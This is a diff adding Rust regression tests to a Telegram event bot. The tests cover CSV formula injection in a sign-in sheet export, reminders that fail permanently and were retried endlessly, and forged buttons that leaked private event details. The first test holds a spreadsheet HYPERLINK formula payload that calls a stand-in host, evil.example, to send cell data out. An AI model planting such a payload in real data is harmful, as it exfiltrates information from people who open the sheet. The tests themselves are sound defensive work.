@@ -173,3 +173,141 @@ async fn a_year_out_of_range_in_a_schedule_or_a_report_period() {
     admin.send("/help");
     admin.expect(&h.t(en, "help-intro")).await;
 }
+
+#[tokio::test]
+async fn a_formula_in_a_name_stays_text_in_the_sign_in_sheet() {
+    let h = Harness::start_with_admins(vec![ADMIN]).await;
+    let db = h.db.connect().await;
+    let id = store::create(&db, &workshop(&h), h.clock.now())
+        .await
+        .unwrap();
+    // Reproduced: this name appeared as a live formula in the sign-in sheet.
+    let attack = r#"=HYPERLINK("http://evil.example/?q="&B2,"Apri")"#;
+    let mut member = h.user_named(831, attack, Some("it"));
+    member.onboard(&h.i18n, Lang::It).await;
+    browse_and_sign_up(&h, &mut member).await;
+    member.click(&h.t(Lang::It, "ev-sign-up"));
+    member.expect_call("sendDocument").await;
+    let en = Lang::En;
+    let mut admin = h.user(ADMIN, Some("en"));
+    admin.onboard(&h.i18n, en).await;
+    admin.click(&h.t(en, "menu-manage-events"));
+    let list = admin.expect(&h.t(en, "ev-manage-title")).await;
+    admin.press_data(list.message_id().unwrap(), &format!("ev:org:{id}"));
+    admin.expect_button(&h.t(en, "ev-csv")).await;
+    admin.click(&h.t(en, "ev-csv"));
+    let doc = admin.expect_call("sendDocument").await;
+    let file = doc.message.as_ref().unwrap()["document"]["file_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let bytes = h.fake.upload(&file).unwrap().bytes;
+    let mut r = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
+    let names: Vec<String> = r
+        .records()
+        .map(|rec| rec.unwrap().get(0).unwrap().to_owned())
+        .collect();
+    assert_eq!(names, [format!("'{attack}")]);
+}
+
+#[tokio::test]
+async fn a_reminder_telegram_refuses_for_good_is_not_retried_forever() {
+    let h = Harness::start().await;
+    let db = h.db.connect().await;
+    let mut u = h.user(841, Some("it"));
+    u.onboard(&h.i18n, Lang::It).await;
+    let mut e = workshop(&h);
+    e.starts_at = (h.clock.now() + Duration::hours(3)).timestamp();
+    e.ends_at = e.starts_at + 3600;
+    let id = store::create(&db, &e, h.clock.now()).await.unwrap();
+    store::sign_up(&db, id, 841, &[120], h.clock.now())
+        .await
+        .unwrap();
+    // Reproduced: a 400 was retried on every pass, forever.
+    h.fake.fail(
+        Some("sendMessage"),
+        discorsi::fake_api::Fault::BadRequest("message is too long".into()),
+        None,
+    );
+    h.clock.advance(Duration::hours(1) + Duration::minutes(1));
+    let outcome = || async {
+        sqlx::query_as::<_, (Option<String>,)>(
+            "SELECT outcome FROM reminders WHERE event_id = $1 AND user_id = 841",
+        )
+        .bind(id)
+        .fetch_one(db.pool())
+        .await
+        .unwrap()
+        .0
+    };
+    let deadline = tokio::time::Instant::now() + common::WAIT;
+    while outcome().await.is_none() && tokio::time::Instant::now() < deadline {
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    assert_eq!(outcome().await.as_deref(), Some("failed"));
+    // Later passes leave it alone: one attempt in all.
+    h.clock.advance(Duration::minutes(30));
+    h.fake.clear_faults();
+    u.send("/help");
+    u.expect(&h.t(Lang::It, "help-intro")).await;
+    let attempts = h
+        .fake
+        .calls()
+        .iter()
+        .filter(|c| {
+            c.chat_id == Some(841) && c.error.as_deref().is_some_and(|e| e.contains("too long"))
+        })
+        .count();
+    assert_eq!(attempts, 1);
+}
+
+#[tokio::test]
+async fn a_forged_button_shows_nothing_of_an_event_that_is_not_yours() {
+    let h = Harness::start_with_admins(vec![ADMIN]).await;
+    let db = h.db.connect().await;
+    let now = h.clock.now();
+    let assoc = discorsi::associations::store::create(&db, "Riservata", "", &[], ADMIN, now)
+        .await
+        .unwrap();
+    let other = discorsi::associations::store::create(&db, "Altra", "", &[], ADMIN, now)
+        .await
+        .unwrap();
+    let mut e = workshop(&h);
+    e.association_id = Some(assoc);
+    e.audience = Audience::Members;
+    e.place = "Via Segreta 7".into();
+    e.online_url = "https://meet.example.org/segreto".into();
+    let id = store::create(&db, &e, now).await.unwrap();
+    // One person in no association, one in another association.
+    let mut outsider = h.user(851, Some("it"));
+    outsider.onboard(&h.i18n, Lang::It).await;
+    let mut neighbour = h.user(852, Some("it"));
+    neighbour.onboard(&h.i18n, Lang::It).await;
+    discorsi::associations::store::join(&db, other, 852, now)
+        .await
+        .unwrap();
+    for u in [&mut outsider, &mut neighbour] {
+        u.send("/menu");
+        let menu = u.expect(&h.t(Lang::It, "menu-title")).await;
+        // Reproduced: this, then Back, showed the title, place and link.
+        // Ids are sequential, so every event could be read this way.
+        for forged in [id, id + 1, 1] {
+            u.press_data(menu.message_id().unwrap(), &format!("ev:cantcome:{forged}"));
+            let shown = u.expect(&h.t(Lang::It, "button-expired")).await;
+            u.press_data(shown.message_id().unwrap(), "nav:back");
+            u.expect("").await;
+        }
+        let leaked = h.fake.calls().iter().any(|c| {
+            c.ok && c.chat_id == Some(u.id())
+                && [
+                    "Laboratorio CV",
+                    "Via Segreta",
+                    "meet.example.org",
+                    "curriculum",
+                ]
+                .iter()
+                .any(|s| c.text().contains(s) || format!("{:?}", c.message).contains(s))
+        });
+        assert!(!leaked, "user {} saw the event", u.id());
+    }
+}
